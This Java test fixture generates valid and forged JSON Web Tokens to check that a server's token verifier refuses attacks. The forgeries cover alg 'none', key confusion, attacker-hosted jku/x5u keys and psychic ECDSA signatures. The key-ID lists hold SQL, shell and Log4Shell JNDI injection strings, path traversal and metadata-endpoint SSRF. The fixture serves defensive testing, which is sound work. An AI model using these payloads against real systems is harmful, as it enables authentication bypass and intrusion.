package io.agx.market.server.identity;

import static io.agx.market.core.protocol.ErrorCode.TOKEN_ALGORITHM;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_AUDIENCE;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_CLAIM;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_EXPIRED;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_HEADER;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_ISSUER;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_KEY;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_MALFORMED;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_NOT_YET_VALID;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_SIGNATURE;
import static io.agx.market.core.protocol.ErrorCode.TOKEN_TOO_LARGE;

import io.agx.market.core.protocol.ErrorCode;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jspecify.annotations.Nullable;

/**
 * Tokens that attackers and broken issuers make, and good ones between them, each with what must become of it. Made anew for a moment; keys
 * are drawn once.
 */
public final class TokenCases {
    /** What a server checks tokens with. */
    public enum Keys {
        /** One secret. */
        SECRET,
        /** One RSA key, as PEM. */
        PEM,
        /** A set: RSA {@code r1}, EC {@code e1} on P-256, {@code e2} on P-384, {@code e3} on P-521, Ed25519 {@code d1}. */
        SET
    }

    /** What a case is about. */
    public enum Kind {
        GOOD,
        NONE,
        CONFUSION,
        KEY_ID,
        EMBEDDED_KEY,
        WEAK_SECRET,
        TIME,
        CONTEXT,
        SHAPE,
        PSYCHIC,
        ENCRYPTED
    }

    /**
     * One token.
     *
     * @param refusal why it must be refused; null if it must be taken
     */
    public record Case(
            Kind kind,
            Keys keys,
            String name,
            String token,
            @Nullable ErrorCode refusal) {
        @Override
        public String toString() {
            return kind + " " + keys + ": " + name;
        }
    }

    public static final String ISSUER = "https://issuer.example";
    public static final String AUDIENCE = "market-test";

    /** Of the server with one. */
    public static final String SECRET = "vN8-qW3rT5yU7iO9pA1sD2fG4hJ6kL8zX0cV";

    static final KeyPair PEM_KEY = Jwt.rsa(2_048);
    private static final KeyPair RSA = Jwt.rsa(2_048);
    private static final KeyPair EC = Jwt.ec("secp256r1");
    private static final KeyPair EC_384 = Jwt.ec("secp384r1");
    private static final KeyPair EC_521 = Jwt.ec("secp521r1");
    private static final KeyPair ED = Jwt.ed25519();
    private static final KeyPair ATTACKERS = Jwt.rsa(2_048);
    private static final KeyPair ATTACKERS_EC = Jwt.ec("secp256r1");

    private static final String HS = "{\"alg\":\"HS256\",\"typ\":\"JWT\"}";

    private final List<Case> cases = new ArrayList<>();
    private final long now;

    private TokenCases(long nowSeconds) {
        now = nowSeconds;
    }

    /** All of them, as of a moment in seconds since 1970. */
    public static List<Case> at(long nowSeconds) {
        TokenCases all = new TokenCases(nowSeconds);
        all.good();
        all.none();
        all.confusion();
        all.keyIds();
        all.embedded();
        all.weakSecrets();
        all.times();
        all.context();
        all.shapes();
        all.psychic();
        all.encrypted();
        return List.copyOf(all.cases);
    }

    /** How many there are of each kind. */
    public static Map<Kind, Integer> count(List<Case> cases) {
        Map<Kind, Integer> counts = new EnumMap<>(Kind.class);
        cases.forEach(each -> counts.merge(each.kind(), 1, Integer::sum));
        return counts;
    }

    /** The text of the file with the keys of a server. */
    public static String keyFile(Keys keys) {
        return switch (keys) {
            case SECRET -> SECRET;
            case PEM -> Jwt.pem(PEM_KEY);
            case SET ->
                Jwt.jwkSet(
                        Jwt.jwk("r1", RSA),
                        Jwt.jwk("e1", EC),
                        Jwt.jwk("e2", EC_384),
                        Jwt.jwk("e3", EC_521),
                        Jwt.jwk("d1", ED));
        };
    }

    /** A good token of the server with the secret. */
    public static String good(String userId, String scope, long expiresSeconds) {
        return Jwt.hs256(
                Jwt.bytes(SECRET),
                HS,
                "{\"sub\":\"" + userId + "\",\"iss\":\"" + ISSUER + "\",\"aud\":\"" + AUDIENCE + "\",\"scope\":\""
                        + scope + "\",\"exp\":" + expiresSeconds + "}");
    }

    private void add(Kind kind, Keys keys, String name, String token, @Nullable ErrorCode refusal) {
        cases.add(new Case(kind, keys, name, token, refusal));
    }

    /** Claims in which one is replaced; one that is null is left out. */
    private String claims(String claim, @Nullable String json) {
        StringBuilder text = new StringBuilder("{");
        Map<String, String> all = new LinkedHashMap<>();
        all.put("sub", "\"alice\"");
        all.put("iss", "\"" + ISSUER + "\"");
        all.put("aud", "\"" + AUDIENCE + "\"");
        all.put("iat", String.valueOf(now - 5));
        all.put("exp", String.valueOf(now + 3_600));
        all.put("scope", "\"publish notify admin\"");
        all.put(claim, json == null ? "" : json);
        all.forEach((name, value) -> {
            if (!value.isEmpty()) {
                text.append(text.length() == 1 ? "" : ",")
                        .append('"')
                        .append(name)
                        .append("\":")
                        .append(value);
            }
        });
        return text.append('}').toString();
    }

    private String claims() {
        return claims("jti", "\"j\"");
    }

    private String hs(String header, String claims) {
        return Jwt.hs256(Jwt.bytes(SECRET), header, claims);
    }

    private String rs(String header, String claims) {
        return Jwt.signed("RS256", RSA.getPrivate(), header, claims);
    }

    private void good() {
        add(Kind.GOOD, Keys.SECRET, "HS256", hs(HS, claims()), null);
        add(Kind.GOOD, Keys.SECRET, "without typ", hs("{\"alg\":\"HS256\"}", claims()), null);
        add(Kind.GOOD, Keys.SECRET, "at+jwt", hs("{\"typ\":\"at+jwt\",\"alg\":\"HS256\"}", claims()), null);
        add(
                Kind.GOOD,
                Keys.SECRET,
                "with a kid for a key without",
                hs("{\"alg\":\"HS256\",\"kid\":\"k\"}", claims()),
                null);
        add(
                Kind.GOOD,
                Keys.SECRET,
                "audience among others",
                hs(HS, claims("aud", "[\"x\",\"" + AUDIENCE + "\"]")),
                null);
        add(Kind.GOOD, Keys.SECRET, "fraction of a second", hs(HS, claims("exp", now + 60 + ".5")), null);
        add(Kind.GOOD, Keys.SECRET, "within the leeway", hs(HS, claims("exp", String.valueOf(now - 10))), null);
        add(Kind.GOOD, Keys.SECRET, "nbf within the leeway", hs(HS, claims("nbf", String.valueOf(now + 10))), null);
        add(Kind.GOOD, Keys.SECRET, "scopes as an array", hs(HS, claims("scope", "[\"publish\",\"admin\"]")), null);
        add(Kind.GOOD, Keys.SECRET, "a scope of others", hs(HS, claims("scope", "\"openid admin publish\"")), null);
        add(Kind.GOOD, Keys.SECRET, "a name of letters of any script", hs(HS, claims("sub", "\"Jürgen 李\"")), null);
        String filler = "x".repeat(5_700);
        add(Kind.GOOD, Keys.SECRET, "nearly 8 KiB", hs(HS, claims("jti", "\"" + filler + "\"")), null);
        for (String algorithm : List.of("RS256", "RS384", "RS512")) {
            add(
                    Kind.GOOD,
                    Keys.PEM,
                    algorithm,
                    Jwt.signed(algorithm, PEM_KEY.getPrivate(), "{\"alg\":\"" + algorithm + "\"}", claims()),
                    null);
        }
        add(Kind.GOOD, Keys.SET, "RS256", rs("{\"alg\":\"RS256\",\"kid\":\"r1\"}", claims()), null);
        add(Kind.GOOD, Keys.SET, "RS256 without a kid", rs("{\"alg\":\"RS256\"}", claims()), null);
        add(Kind.GOOD, Keys.SET, "ES256", es("ES256", EC, "e1"), null);
        add(Kind.GOOD, Keys.SET, "ES384", es("ES384", EC_384, "e2"), null);
        add(Kind.GOOD, Keys.SET, "ES512", es("ES512", EC_521, "e3"), null);
        add(Kind.GOOD, Keys.SET, "EdDSA", es("EdDSA", ED, "d1"), null);
    }

    private String es(String algorithm, KeyPair pair, String id) {
        return Jwt.signed(
                algorithm, pair.getPrivate(), "{\"alg\":\"" + algorithm + "\",\"kid\":\"" + id + "\"}", claims());
    }

    private void none() {
        List<String> names = List.of(
                "\"none\"",
                "\"None\"",
                "\"NONE\"",
                "\"nOnE\"",
                "\"\"",
                "\" none\"",
                "\"none \"",
                "\"none\\u0000\"",
                "null",
                "0",
                "false",
                "[]",
                "{}",
                "[\"HS256\"]",
                "\"hs256\"",
                "\"HS256 \"",
                "\"HS1\"",
                "\"ES256K\"");
        for (Keys keys : Keys.values()) {
            for (String name : names) {
                add(
                        Kind.NONE,
                        keys,
                        "alg " + name + " unsigned",
                        Jwt.of("{\"alg\":" + name + "}", claims(), new byte[0]),
                        TOKEN_ALGORITHM);
            }
            add(Kind.NONE, keys, "no alg", Jwt.of("{\"typ\":\"JWT\"}", claims(), new byte[32]), TOKEN_ALGORITHM);
        }
        for (String name : names) {
            // Signed, so that only the name is wrong.
            add(
                    Kind.NONE,
                    Keys.SECRET,
                    "alg " + name + " signed",
                    hs("{\"alg\":" + name + "}", claims()),
                    TOKEN_ALGORITHM);
        }
    }

    private void confusion() {
        for (KeyPair pair : List.of(PEM_KEY, RSA)) {
            Keys keys = pair == RSA ? Keys.SET : Keys.PEM;
            String pem = Jwt.pem(pair);
            List<byte[]> secrets = List.of(
                    Jwt.bytes(pem),
                    Jwt.bytes(pem.strip()),
                    Jwt.bytes(pem.replace("\n", "\r\n")),
                    pair.getPublic().getEncoded(),
                    ((RSAPublicKey) pair.getPublic()).getModulus().toByteArray());
            for (String algorithm : List.of("HS256", "HS384", "HS512")) {
                for (int i = 0; i < secrets.size(); i++) {
                    String header = "{\"alg\":\"" + algorithm + "\",\"kid\":\"r1\"}";
                    add(
                            Kind.CONFUSION,
                            keys,
                            algorithm + " by form " + i + " of the public key",
                            Jwt.hmac(algorithm, secrets.get(i), header, claims()),
                            TOKEN_ALGORITHM);
                }
            }
        }
        add(
                Kind.CONFUSION,
                Keys.SECRET,
                "RS256 of the attacker's",
                Jwt.signed("RS256", ATTACKERS.getPrivate(), "{\"alg\":\"RS256\"}", claims()),
                TOKEN_ALGORITHM);
        add(
                Kind.CONFUSION,
                Keys.SECRET,
                "HS512 with a secret that is too short for it",
                Jwt.hmac("HS512", Jwt.bytes(SECRET), "{\"alg\":\"HS512\"}", claims()),
                TOKEN_ALGORITHM);
        add(
                Kind.CONFUSION,
                Keys.SET,
                "RS256 that names an EC key",
                rs("{\"alg\":\"RS256\",\"kid\":\"e1\"}", claims()),
                TOKEN_KEY);
        add(
                Kind.CONFUSION,
                Keys.SET,
                "ES384 that names a P-256 key",
                Jwt.signed("ES384", EC_384.getPrivate(), "{\"alg\":\"ES384\",\"kid\":\"e1\"}", claims()),
                TOKEN_KEY);
    }

    private void keyIds() {
        // What could name a file, a statement, a command, a host or another key.
        List<String> plain = List.of(
                "../../../../../../dev/null",
                "/dev/null",
                "/proc/self/environ",
                "file:///dev/null",
                "/etc/hostname",
                "..",
                ".",
                "R1",
                "r1/../r1",
                "r1#",
                "r2",
                "0",
                "-1",
                "http://169.254.169.254/latest/meta-data",
                "https://attacker.example/k",
                "ldap://attacker.example/a",
                "null",
                "undefined",
                "__proto__",
                "a".repeat(256));
        List<String> odd = List.of(
                "",
                " ",
                " r1",
                "r1 ",
                "r1\\u0000",
                "r1\\n",
                "r1\\r\\nX: y",
                "' OR '1'='1",
                "x' UNION SELECT 'secret' --",
                "\\\";DROP TABLE users;--",
                ";id",
                "|cat /etc/passwd",
                "$(id)",
                "`id`",
                "${jndi:ldap://attacker.example/a}",
                "#{7*7}",
                "<%= 7*7 %>",
                "{{7*7}}",
                "%72%31",
                "\\u0072\\u0031\\u200b",
                "a".repeat(257),
                "r1,e1",
                "*",
                "r?",
                "..\\\\..\\\\windows\\\\win.ini",
                "\\ud83d\\ude00",
                "é");
        List<String> notText = List.of("1", "1.5", "true", "[\"r1\"]", "{\"a\":\"r1\"}", "null");
        for (String id : plain) {
            keyId(quoted(id), TOKEN_SIGNATURE);
        }
        for (String id : odd) {
            keyId(quoted(id), TOKEN_KEY);
        }
        for (String id : notText) {
            keyId(id, TOKEN_KEY);
        }
    }

    /** @param ofSecret what becomes of it where the key has no name */
    private void keyId(String json, ErrorCode ofSecret) {
        String name = "kid " + json.substring(0, Math.min(json.length(), 40));
        String header = "{\"alg\":\"HS256\",\"kid\":" + json + "}";
        add(Kind.KEY_ID, Keys.SECRET, name + " by an empty secret", Jwt.hs256(new byte[0], header, claims()), ofSecret);
        // Signed by a key of the server's, so that only the name is wrong.
        add(Kind.KEY_ID, Keys.SET, name, rs("{\"alg\":\"RS256\",\"kid\":" + json + "}", claims()), TOKEN_KEY);
    }

    private static String quoted(String text) {
        return "\"" + text + "\"";
    }

    private void embedded() {
        String certificate =
                Base64.getEncoder().encodeToString(ATTACKERS.getPublic().getEncoded());
        List<String> members = List.of(
                "\"jwk\":" + Jwt.jwk("r1", ATTACKERS),
                "\"jwk\":{\"kty\":\"oct\",\"k\":\"AAAA\"}",
                "\"jku\":\"https://attacker.example/jwks.json\"",
                "\"jku\":\"https://issuer.example@attacker.example/jwks.json\"",
                "\"x5u\":\"https://attacker.example/cert.pem\"",
                "\"x5u\":\"file:///etc/passwd\"",
                "\"x5c\":[\"" + certificate + "\"]",
                "\"x5c\":[]");
        for (String member : members) {
            String header = "{\"alg\":\"RS256\",\"kid\":\"r1\"," + member + "}";
            String name = member.substring(0, Math.min(member.length(), 40));
            String attackers = Jwt.signed("RS256", ATTACKERS.getPrivate(), header, claims());
            add(Kind.EMBEDDED_KEY, Keys.SET, name + " by the attacker's key", attackers, TOKEN_HEADER);
            add(Kind.EMBEDDED_KEY, Keys.SET, name + " by the server's key", rs(header, claims()), TOKEN_HEADER);
            add(Kind.EMBEDDED_KEY, Keys.SECRET, name, hs("{\"alg\":\"HS256\"," + member + "}", claims()), TOKEN_HEADER);
        }
        add(
                Kind.EMBEDDED_KEY,
                Keys.SET,
                "the attacker's key under the server's name",
                Jwt.signed("RS256", ATTACKERS.getPrivate(), "{\"alg\":\"RS256\",\"kid\":\"r1\"}", claims()),
                TOKEN_SIGNATURE);
        add(
                Kind.EMBEDDED_KEY,
                Keys.SET,
                "the attacker's EC key under the server's name",
                Jwt.signed("ES256", ATTACKERS_EC.getPrivate(), "{\"alg\":\"ES256\",\"kid\":\"e1\"}", claims()),
                TOKEN_SIGNATURE);
    }

    private void weakSecrets() {
        List<String> guesses = List.of(
                "",
                "secret",
                "password",
                "123456",
                "changeme",
                "admin",
                "market",
                "token",
                "jwt",
                "key",
                "test",
                "dev",
                "your-256-bit-secret",
                "your-384-bit-secret",
                "your-512-bit-secret",
                "secretkey",
                "supersecret",
                "qwerty",
                "default",
                "HS256",
                "null",
                "undefined",
                "a-string-secret-at-least-256-bits-long",
                "0".repeat(32),
                "a".repeat(32),
                "\u0000".repeat(32),
                AUDIENCE,
                ISSUER,
                SECRET.substring(1),
                SECRET + " ",
                Jwt.upper(SECRET));
        for (String guess : guesses) {
            add(
                    Kind.WEAK_SECRET,
                    Keys.SECRET,
                    "signed with " + (guess.length() > 20 ? guess.substring(0, 5) + "…" : quoted(guess)),
                    Jwt.hs256(Jwt.bytes(guess), HS, claims()),
                    TOKEN_SIGNATURE);
        }
    }

    private void times() {
        for (String each : List.of(
                "null",
                "\"\"",
                "\"" + (now + 3_600) + "\"",
                "true",
                "[]",
                "{}",
                "-1",
                "-1e3",
                "1e400",
                "1e18",
                "99999999999999",
                String.valueOf((now + 3_600) * 1_000),
                String.valueOf(now + 400_000_000L))) {
            add(Kind.TIME, Keys.SECRET, "exp " + each, hs(HS, claims("exp", each)), TOKEN_CLAIM);
        }
        add(Kind.TIME, Keys.SECRET, "no exp", hs(HS, claims("exp", null)), TOKEN_CLAIM);
        for (long each : new long[] {0, 1, now - 86_400, now - 3_600, now - 60, now - 31}) {
            add(
                    Kind.TIME,
                    Keys.SECRET,
                    "exp " + (each - now),
                    hs(HS, claims("exp", String.valueOf(each))),
                    TOKEN_EXPIRED);
        }
        for (String claim : List.of("nbf", "iat")) {
            for (long each : new long[] {60, 3_600, 86_400, 31_536_000}) {
                add(
                        Kind.TIME,
                        Keys.SECRET,
                        claim + " +" + each,
                        hs(HS, claims(claim, String.valueOf(now + each))),
                        TOKEN_NOT_YET_VALID);
            }
            for (String each : List.of("null", "\"now\"", "true", "[1]", "-5", "1e30")) {
                add(Kind.TIME, Keys.SECRET, claim + " " + each, hs(HS, claims(claim, each)), TOKEN_CLAIM);
            }
        }
    }

    private void context() {
        for (String each : List.of(
                quoted("https://other.example"),
                quoted(ISSUER + "/"),
                quoted(Jwt.upper(ISSUER)),
                quoted(ISSUER + ".evil.example"),
                quoted(" " + ISSUER),
                quoted(""),
                quoted("http://issuer.example"))) {
            add(Kind.CONTEXT, Keys.SECRET, "iss " + each, hs(HS, claims("iss", each)), TOKEN_ISSUER);
        }
        add(Kind.CONTEXT, Keys.SECRET, "no iss", hs(HS, claims("iss", null)), TOKEN_ISSUER);
        for (String each : List.of("[\"" + ISSUER + "\"]", "1", "null", "{}")) {
            add(Kind.CONTEXT, Keys.SECRET, "iss " + each, hs(HS, claims("iss", each)), TOKEN_CLAIM);
        }
        for (String each : List.of(
                quoted("other"),
                quoted(""),
                quoted(Jwt.upper(AUDIENCE)),
                quoted(AUDIENCE + " other"),
                quoted("market"),
                "[]",
                "[\"other\",\"market\"]",
                quoted("*"))) {
            add(Kind.CONTEXT, Keys.SECRET, "aud " + each, hs(HS, claims("aud", each)), TOKEN_AUDIENCE);
        }
        add(Kind.CONTEXT, Keys.SECRET, "no aud", hs(HS, claims("aud", null)), TOKEN_AUDIENCE);
        for (String each : List.of(
                "1", "null", "{\"a\":\"" + AUDIENCE + "\"}", "[[\"" + AUDIENCE + "\"]]", "[1,\"" + AUDIENCE + "\"]")) {
            add(Kind.CONTEXT, Keys.SECRET, "aud " + each, hs(HS, claims("aud", each)), TOKEN_CLAIM);
        }
        for (String each : List.of(
                "\"\"",
                "1",
                "null",
                "[\"alice\"]",
                "{}",
                quoted("a".repeat(129)),
                "\"ali\\u0000ce\"",
                "\"alice\\n\"",
                "\" alice\"",
                "\"alice \"",
                "\"ali\\u200bce\"",
                "\"\\u202ealice\"",
                "\"\\ud800\"",
                "\"alice\\u2028\"")) {
            add(
                    Kind.CONTEXT,
                    Keys.SECRET,
                    "sub " + each.substring(0, Math.min(20, each.length())),
                    hs(HS, claims("sub", each)),
                    TOKEN_CLAIM);
        }
        add(Kind.CONTEXT, Keys.SECRET, "no sub", hs(HS, claims("sub", null)), TOKEN_CLAIM);
        for (String each : List.of("1", "{\"publish\":true}", "[1]", "true", "null")) {
            add(Kind.CONTEXT, Keys.SECRET, "scope " + each, hs(HS, claims("scope", each)), TOKEN_CLAIM);
        }
        for (String each : List.of(
                "\"JWE\"", "\"secevent+jwt\"", "\"dpop+jwt\"", "\"logout+jwt\"", "\"\"", "1", "null", "\"JWT \"")) {
            add(
                    Kind.CONTEXT,
                    Keys.SECRET,
                    "typ " + each,
                    hs("{\"alg\":\"HS256\",\"typ\":" + each + "}", claims()),
                    TOKEN_HEADER);
        }
        for (String each : List.of(
                "\"crit\":[\"exp\"]",
                "\"crit\":[]",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":true",
                "\"zip\":\"DEF\"",
                "\"enc\":\"A128GCM\"",
                "\"cty\":\"JWT\"",
                "\"epk\":{}",
                "\"p2c\":1")) {
            add(Kind.CONTEXT, Keys.SECRET, each, hs("{\"alg\":\"HS256\"," + each + "}", claims()), TOKEN_HEADER);
        }
    }

    private void shapes() {
        String good = hs(HS, claims());
        String[] parts = good.split("\\.");
        Map<String, String> malformed = new LinkedHashMap<>();
        malformed.put("one dot", ".");
        malformed.put("two dots", "..");
        malformed.put("words", "a.b.c");
        malformed.put("no signature's dot", parts[0] + "." + parts[1]);
        malformed.put("one part", parts[0]);
        malformed.put("four parts", good + ".x");
        malformed.put("six parts", good + ".x.y.z");
        malformed.put("padding", parts[0] + "." + parts[1] + "." + parts[2] + "=");
        malformed.put("padding of the header", parts[0] + "=." + parts[1] + "." + parts[2]);
        malformed.put("the other alphabet", parts[0] + "." + parts[1] + "." + "+/".repeat(21) + "A");
        malformed.put("a blank before", " " + good);
        malformed.put("a blank within", parts[0] + ". " + parts[1] + "." + parts[2]);
        malformed.put("a line's end within", parts[0] + ".\n" + parts[1] + "." + parts[2]);
        malformed.put("a zero behind", good + "\u0000");
        malformed.put("the scheme before", "Bearer " + good);
        malformed.put("percent-encoded twice", good.replace(".", "%252E"));
        malformed.put("spare bits set", good.substring(0, good.length() - 1) + spare(good.charAt(good.length() - 1)));
        malformed.put("a letter of another script", "е" + good.substring(1));
        malformed.put("JSON serialization", "{\"payload\":\"" + parts[1] + "\",\"signature\":\"" + parts[2] + "\"}");
        malformed.put("header is no JSON", hs("nonsense", claims()));
        malformed.put("header is an array", hs("[]", claims()));
        malformed.put("header is a string", hs("\"HS256\"", claims()));
        malformed.put("header is null", hs("null", claims()));
        malformed.put("header is empty", hs("", claims()));
        malformed.put("alg twice", hs("{\"alg\":\"none\",\"alg\":\"HS256\"}", claims()));
        malformed.put("something behind the header", hs(HS + "{}", claims()));
        malformed.put("a comment in the header", hs("{\"alg\":\"HS256\"/**/}", claims()));
        malformed.put("single quotes", hs("{'alg':'HS256'}", claims()));
        malformed.put(
                "a header nested deep",
                hs("{\"alg\":\"HS256\",\"x\":" + "[".repeat(500) + "]".repeat(500) + "}", claims()));
        malformed.put("claims are no JSON", hs(HS, "nonsense"));
        malformed.put("claims are an array", hs(HS, "[" + claims() + "]"));
        malformed.put("claims are a string", hs(HS, "\"alice\""));
        malformed.put("claims are empty", hs(HS, ""));
        malformed.put("exp twice", hs(HS, claims().replace("\"exp\"", "\"exp\":1,\"exp\"")));
        malformed.put("sub twice", hs(HS, claims().replace("\"sub\"", "\"sub\":\"bob\",\"sub\"")));
        malformed.put("sub twice, once escaped", hs(HS, claims().replace("\"sub\"", "\"s\\u0075b\":\"bob\",\"sub\"")));
        malformed.put("something behind the claims", hs(HS, claims() + claims()));
        malformed.put("claims nested deep", hs(HS, claims("x", "{\"a\":".repeat(400) + "1" + "}".repeat(400))));
        malformed.put("not a number", hs(HS, claims("exp", "NaN")));
        malformed.put("a number of 2,000 digits", hs(HS, claims("exp", "1".repeat(2_000))));
        malformed.put("a byte order mark", hs(HS, "\ufeff" + claims()));
        malformed.forEach((name, token) -> add(Kind.SHAPE, Keys.SECRET, name, token, TOKEN_MALFORMED));
        byte[] badUtf8 = (claims("sub", "\"ali?ce\"")).getBytes(StandardCharsets.ISO_8859_1);
        for (int i = 0; i < badUtf8.length; i++) {
            badUtf8[i] = badUtf8[i] == '?' ? (byte) 0xff : badUtf8[i];
        }
        // Signed over what it says, by way of a text that has the same encoding.
        add(Kind.SHAPE, Keys.SECRET, "claims are not UTF-8", signedRaw(badUtf8), TOKEN_MALFORMED);

        Map<String, String> wrong = new LinkedHashMap<>();
        byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
        wrong.put("no signature", parts[0] + "." + parts[1] + ".");
        wrong.put("half a signature", parts[0] + "." + parts[1] + "." + Jwt.encode(Arrays.copyOf(signature, 16)));
        wrong.put("a longer signature", parts[0] + "." + parts[1] + "." + Jwt.encode(Arrays.copyOf(signature, 33)));
        signature[0] ^= 1;
        wrong.put("a bit of the signature", parts[0] + "." + parts[1] + "." + Jwt.encode(signature));
        wrong.put("a signature of zeros", parts[0] + "." + parts[1] + "." + Jwt.encode(new byte[32]));
        wrong.put("other claims", parts[0] + "." + Jwt.encode(claims("sub", "\"bob\"")) + "." + parts[2]);
        wrong.put("other claims that have expired", parts[0] + "." + Jwt.encode(claims("exp", "1")) + "." + parts[2]);
        wrong.put(
                "another header", Jwt.encode("{\"typ\":\"JWT\",\"alg\":\"HS256\"}") + "." + parts[1] + "." + parts[2]);
        wrong.put("claims that are none, not signed", parts[0] + "." + Jwt.encode("nonsense") + "." + parts[2]);
        wrong.forEach((name, token) -> add(Kind.SHAPE, Keys.SECRET, name, token, TOKEN_SIGNATURE));

        add(Kind.SHAPE, Keys.SECRET, "8,193 characters", good + "A".repeat(8_193 - good.length()), TOKEN_TOO_LARGE);
        add(
                Kind.SHAPE,
                Keys.SECRET,
                "9,000 characters, signed",
                hs(HS, claims("jti", quoted("x".repeat(6_400)))),
                TOKEN_TOO_LARGE);
        add(Kind.SHAPE, Keys.SECRET, "dots only", ".".repeat(8_000), TOKEN_MALFORMED);
        add(Kind.SHAPE, Keys.SECRET, "60,000 characters", "A".repeat(60_000), TOKEN_TOO_LARGE);
    }

    private String signedRaw(byte[] claims) {
        try {
            String input = Jwt.encode(HS) + "." + Jwt.encode(claims);
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(Jwt.bytes(SECRET), "HMAC"));
            return input + "." + Jwt.encode(mac.doFinal(Jwt.bytes(input)));
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }

    /** Another character whose upper bits are the same: the last one of 32 bytes has two bits that mean nothing. */
    private static char spare(char last) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        return alphabet.charAt(alphabet.indexOf(last) ^ 1);
    }

    private void psychic() {
        Map<String, KeyPair> pairs = new LinkedHashMap<>();
        pairs.put("ES256 e1", EC);
        pairs.put("ES384 e2", EC_384);
        pairs.put("ES512 e3", EC_521);
        pairs.forEach((name, pair) -> {
            String header = "{\"alg\":\"" + name.substring(0, 5) + "\",\"kid\":\"" + name.substring(6) + "\"}";
            ECPublicKey key = (ECPublicKey) pair.getPublic();
            int bytes = (key.getParams().getCurve().getField().getFieldSize() + 7) / 8;
            byte[] order = key.getParams().getOrder().toByteArray();
            byte[] n = Arrays.copyOfRange(order, order.length - bytes, order.length);
            byte[] zero = new byte[bytes];
            byte[] one = new byte[bytes];
            one[bytes - 1] = 1;
            Map<String, byte[]> signatures = new LinkedHashMap<>();
            signatures.put("0, 0", both(zero, zero));
            signatures.put("0, 1", both(zero, one));
            signatures.put("1, 0", both(one, zero));
            signatures.put("n, n", both(n, n));
            signatures.put("n, 1", both(n, one));
            signatures.put("0, n", both(zero, n));
            signatures.put("nothing", new byte[0]);
            signatures.put("one zero", new byte[1]);
            signatures.put("DER of zeros", new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0});
            signatures.put("half", zero);
            signatures.forEach((what, signature) -> add(
                    Kind.PSYCHIC,
                    Keys.SET,
                    name + " with " + what,
                    Jwt.of(header, claims(), signature),
                    TOKEN_SIGNATURE));
        });
        for (int length : new int[] {0, 1, 32, 64, 65}) {
            add(
                    Kind.PSYCHIC,
                    Keys.SET,
                    "EdDSA with " + length + " zeros",
                    Jwt.of("{\"alg\":\"EdDSA\",\"kid\":\"d1\"}", claims(), new byte[length]),
                    TOKEN_SIGNATURE);
        }
    }

    private static byte[] both(byte[] r, byte[] s) {
        byte[] both = new byte[r.length + s.length];
        System.arraycopy(r, 0, both, 0, r.length);
        System.arraycopy(s, 0, both, r.length, s.length);
        return both;
    }

    private void encrypted() {
        for (Keys keys : Keys.values()) {
            for (String header : List.of(
                    "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2s\":\"AAAA\",\"p2c\":2147483647}",
                    "{\"alg\":\"PBES2-HS512+A256KW\",\"enc\":\"A256GCM\",\"p2s\":\"AAAA\",\"p2c\":1}",
                    "{\"alg\":\"dir\",\"enc\":\"A128GCM\"}",
                    "{\"alg\":\"RSA-OAEP\",\"enc\":\"A128CBC-HS256\",\"zip\":\"DEF\"}")) {
                String name = header.substring(8, 26);
                String encoded = Jwt.encode(header);
                add(Kind.ENCRYPTED, keys, name + " in five parts", encoded + ".AAAA.AAAA.AAAA.AAAA", TOKEN_ALGORITHM);
                add(
                        Kind.ENCRYPTED,
                        keys,
                        name + " in three",
                        encoded + "." + Jwt.encode(claims()) + ".AAAA",
                        TOKEN_ALGORITHM);
            }
        }
    }
}
